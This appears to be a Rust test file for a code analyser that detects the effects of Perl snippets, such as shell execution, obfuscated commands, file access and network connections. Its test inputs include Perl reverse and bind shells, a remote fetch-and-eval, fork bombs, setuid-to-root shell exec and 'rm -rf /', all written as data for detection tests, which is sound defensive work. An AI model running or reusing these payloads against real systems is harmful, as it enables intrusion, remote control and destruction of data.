//! Perl.

use super::{check_in, effects_in};
use aegish_code_parsers::language::Language::Perl;

#[test]
fn commands_are_found_in_every_spelling() {
    check_in(
        Perl,
        &[
            ("exec \"/bin/sh\";", &["shell /bin/sh"]),
            ("exec'/bin/sh'", &["shell /bin/sh"]),
            ("system('ls -l')", &["shell ls -l"]),
            ("system 'ls', '-l';", &["argv ls|-l"]),
            ("system(qw(ls -l))", &["argv ls|-l"]),
            ("exec {'/bin/bash'} 'sh', '-i'", &["argv /bin/bash|-i"]),
            ("print `id`", &["shell id"]),
            ("my $x = qx{uname -a}; print $x", &["shell uname -a"]),
            ("$c = 'i'; $c .= 'd'; system($c);", &["shell id"]),
            ("$c='id'; system(\"$c -u\")", &["shell id -u"]),
            ("my @a=('ls','-l'); system(@a)", &["argv ls|-l"]),
            ("system(pack('H*','756e616d65'))", &["shell uname"]),
            ("use MIME::Base64; system(decode_base64('dW5hbWU='))", &["shell uname"]),
            ("system(join '', map {chr} (105,100))", &["shell id"]),
            ("system(join('', 'i', 'd'))", &["shell id"]),
            ("system(scalar reverse('di'))", &["shell id"]),
            ("eval 'system(\"id\")'", &["shell id"]),
            ("eval { die 'x' }; print 1", &["print 1"]),
            ("do '/srv/x.pl'", &["script perl /srv/x.pl"]),
            ("require './x.pl'", &["script perl ./x.pl"]),
            ("open(F, \"id|\"); print <F>;", &["shell id"]),
            ("open(F, '| /usr/sbin/sendmail -t')", &["shell /usr/sbin/sendmail -t"]),
            ("open(my $p, '-|', 'ls', '-l') or die", &["argv ls|-l"]),
            (
                "use POSIX qw(setuid); POSIX::setuid(0); exec \"/bin/sh\"",
                &["user 0", "shell /bin/sh"],
            ),
            ("$< = 0; $> = 0; exec '/bin/sh'", &["user 0", "shell /bin/sh"]),
            ("&{\"system\"}('id')", &["shell id"]),
            ("my $f = 'system'; &$f('id')", &["shell id"]),
            ("CORE::system('id')", &["shell id"]),
            ("s/x/system('id')/e", &["shell id"]),
            ("system $ENV{TARGET}", &["shell /srv/data.bin"]),
            ("system($ARGV[0])", &["shell first-arg"]),
            ("exec shift", &["shell first-arg"]),
            ("sub r { my $c = shift; system($c) } r('id');", &["shell id"]),
            ("system <<'X';\necho hi\nX\n", &["shell echo hi\n"]),
            ("fork while fork", &["exhaust"]),
            ("while(1){fork}", &["exhaust"]),
            ("while (1) { fork(); }", &["exhaust"]),
            ("for my $c ('id','who') { system $c }", &["shell id", "shell who"]),
        ],
    );
}

#[test]
fn files_and_connections() {
    check_in(
        Perl,
        &[
            ("open(F,'<','/etc/hosts'); print <F>", &["read /etc/hosts"]),
            ("open F, '/etc/hosts'; while(<F>){print}", &["read /etc/hosts"]),
            (
                "open(my $fh, '>', '/tmp/x') or die; print $fh 'DATA'; close $fh",
                &["write /tmp/x <- DATA"],
            ),
            ("open(F,'>>/tmp/x'); print F 'DATA'", &["append /tmp/x <- DATA"]),
            ("unlink '/tmp/a', '/tmp/b'", &["delete /tmp/a", "delete /tmp/b"]),
            ("use File::Path; rmtree('/srv/x')", &["tree /srv/x"]),
            ("chmod 04755, '/tmp/x'", &["mode 4755 /tmp/x"]),
            ("chown 0, 0, '/tmp/x'", &["owner 0:0 /tmp/x"]),
            ("use File::Copy; copy('/etc/hosts','/tmp/h')", &["copy /etc/hosts -> /tmp/h"]),
            ("rename 'a','b'", &["copy a -> b"]),
            (
                "use Socket;$i=\"10.1.2.3\";$p=9;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
                &["connect 10.1.2.3 9", "attach", "shell /bin/sh -i"],
            ),
            (
                "use Socket;socket(S,2,1,6);bind(S,sockaddr_in(99,INADDR_ANY));listen(S,5);accept(C,S);open STDIN,'<&C';exec '/bin/sh'",
                &["listen  99", "attach", "shell /bin/sh"],
            ),
            (
                "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"h.example:99\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
                &["connect h.example 99", "attach", "received"],
            ),
            (
                "use IO::Socket::INET; my $s=IO::Socket::INET->new(PeerAddr=>'h.example',PeerPort=>99); while(<$s>){ print `$_` }",
                &["connect h.example 99", "received"],
            ),
            (
                "use LWP::Simple; eval get('http://h.example/x')",
                &["fetch http://h.example/x", "received"],
            ),
            (
                "use LWP::UserAgent; my $ua=LWP::UserAgent->new; $ua->get('http://h.example/x')",
                &["fetch http://h.example/x"],
            ),
        ],
    );
}

#[test]
fn harmless_look_alikes_give_nothing() {
    check_in(
        Perl,
        &[
            ("print 'system(1)'", &["print system(1)"]),
            ("print if m/regex1/ and m/regex2/i", &[]),
            ("print \"$1\\n\" if /exec (\\w+)/", &[]),
            ("s/system/exec/g", &[]),
            ("tr/a-z/A-Z/", &[]),
            ("y/a/b/; print", &[]),
            ("# system('rm')", &[]),
            ("=pod\nsystem('x')\n=cut\nprint 1", &["print 1"]),
            ("$sum += $F[0]; END { print $sum }", &[]),
            ("print join(',', sort keys %h)", &[]),
            ("my %h = (system => 1, exec => 2); print $h{system}", &["print 1"]),
            ("print qq{exec \"x\"}", &["print exec \"x\""]),
            ("use strict; use warnings; print 'x' x 3", &["print xxx"]),
            ("@lines = <STDIN>; print reverse @lines", &[]),
            ("printf(\"%s\\n\", 'hi')", &["print hi\n"]),
            ("if ($x =~ /^(open|exec)/) { print 1 }", &[]),
            ("$x{exec}++ for split /,/", &[]),
            ("print 'a'; __END__\nsystem('id')", &["print a"]),
        ],
    );
}

#[test]
fn texts_that_a_pattern_changes_are_followed_or_open() {
    check_in(
        Perl,
        &[
            ("$x='/srv/dXta'; $x=~s/X/a/; open F,$x", &["read /srv/data"]),
            ("$x='/srv/dbtb'; $x=~tr/b/a/; open F,$x", &["read /srv/data"]),
            ("$_='/srv/dXta'; s/X/a/; open F,$_", &["read /srv/data"]),
            ("$x='/srv/dXXta'; $x=~s/X+/a/; open F,$x", &["read /srv/data"]),
            ("$x='/srv/dXXta'; $x=~s/(?<=d)X+/a/; open F,$x", &["hidden"]),
            ("for(glob '/srv/dat?'){open F,$_}", &["list /srv/dat?", "read /srv/dat?"]),
            ("chdir '/srv'; open F,'data'", &["read /srv/data"]),
            ("tie @a,'Tie::File','/srv/data'", &["mention /srv/data"]),
            ("$c='system q(id)'; s/^/$c/ee", &["shell id"]),
            ("'a' =~ /(?{ system('id') })/", &["shell id"]),
        ],
    );
}

#[test]
fn names_flow_through_everything() {
    check_in(
        Perl,
        &[
            ("$h{a}=\"/srv/x\";open F,$h{a}", &["read /srv/x"]),
            ("my $r={a=>[1,{b=>'/srv/x'}]}; open F,'<',$r->{a}[1]{b}", &["read /srv/x"]),
            ("$h{a}{b}='/srv/x'; my %g=%{$h{a}}; open F,$g{b}", &["read /srv/x"]),
            ("push @{$h{l}}, '/srv/x'; open F, $h{l}[0]", &["read /srv/x"]),
            ("my @a=('/srv','x'); open F, \"$a[0]/$a[1]\"", &["read /srv/x"]),
            ("my @p=qw(srv x); open F, '/'.join('/',@p)", &["read /srv/x"]),
            ("open F, \"@{[ '/srv/' . 'x' ]}\"", &["read /srv/x"]),
            ("open F, \"${\\ '/srv/x'}\"", &["read /srv/x"]),
            ("my ($a,$b)=('x','/srv/x');open F,$b", &["read /srv/x"]),
            ("map{open F,$_}'/srv/x'", &["read /srv/x"]),
            ("open F,substr 'x/srv/x',1", &["read /srv/x"]),
            ("*go = sub { system @_ }; go('id')", &["shell id"]),
            ("sub AUTOLOAD { system 'id' } nothing(1);", &["shell id"]),
            (
                "package P; sub new { bless {c=>$_[1]}, shift } sub go { system $_[0]{c} } package main; P->new('id')->go",
                &["shell id"],
            ),
            (
                "package A; sub go { system 'id' } package B; our @ISA=('A'); package main; my $m='go'; B->$m",
                &["shell id"],
            ),
            ("main->can('go')->('id'); sub go { system shift }", &["shell id"]),
            ("my $c = do { local $/; 'id' }; system $c", &["shell id"]),
            ("my $x = 1 ? 'id' : 'who'; system $x", &["shell id"]),
            ("if (@ARGV) { $t='/' } else { $t='build' } system \"rm -rf $t\"", &["shell rm -rf /"]),
            (
                "if ($ENV{NOPE}) { $t='/' } else { $t='build' } system \"rm -rf $t\"",
                &["shell rm -rf /", "shell rm -rf build"],
            ),
            ("our $x='/srv/x'; sub f { local $x='y'; return 1 } f(); open F,$x", &["read /srv/x"]),
            ("while(<DATA>){chomp; system $_}\n__DATA__\nid\n", &["shell id"]),
            ("$SIG{ALRM}=sub{system 'id'};", &["shell id"]),
            ("map { unlink } glob('/srv/*')", &["list /srv/*", "delete /srv/*"]),
            ("@ARGV=('/etc/hosts'); while(<>){print}", &["read /etc/hosts"]),
            ("format STDOUT =\n@*\n`id`\n.\nwrite", &["shell id"]),
            ("@ARGV=('/srv/x');print <>", &["read /srv/x"]),
            ("use constant CMD => 'id'; system CMD", &["shell id"]),
            ("exit; BEGIN { system 'id' }", &["shell id"]),
            (
                "my $s = sub { my ($c) = @_; system $c }; $s->('id'); &$s('who')",
                &["shell id", "shell who"],
            ),
        ],
    );
}

#[test]
fn text_that_is_no_perl_is_not_taken_for_harmless() {
    check_in(Perl, &[("system('id'); ) ( = ;", &["shell id", "hidden"])]);
}

#[test]
fn deep_nesting_is_open_and_quick() {
    for (open, close) in
        [("(", ")"), ("[", "]"), ("{", "}"), ("@{", "}"), ("do{", "}"), ("map{", "}"), ("A:", "")]
    {
        let start = std::time::Instant::now();
        let code = format!("{}1{}", open.repeat(10_000), close.repeat(10_000));
        assert!(effects_in(Perl, &code).contains(&"hidden".to_owned()), "{open}");
        assert!(start.elapsed().as_millis() < 2_000, "{open}: {:?}", start.elapsed());
    }
}
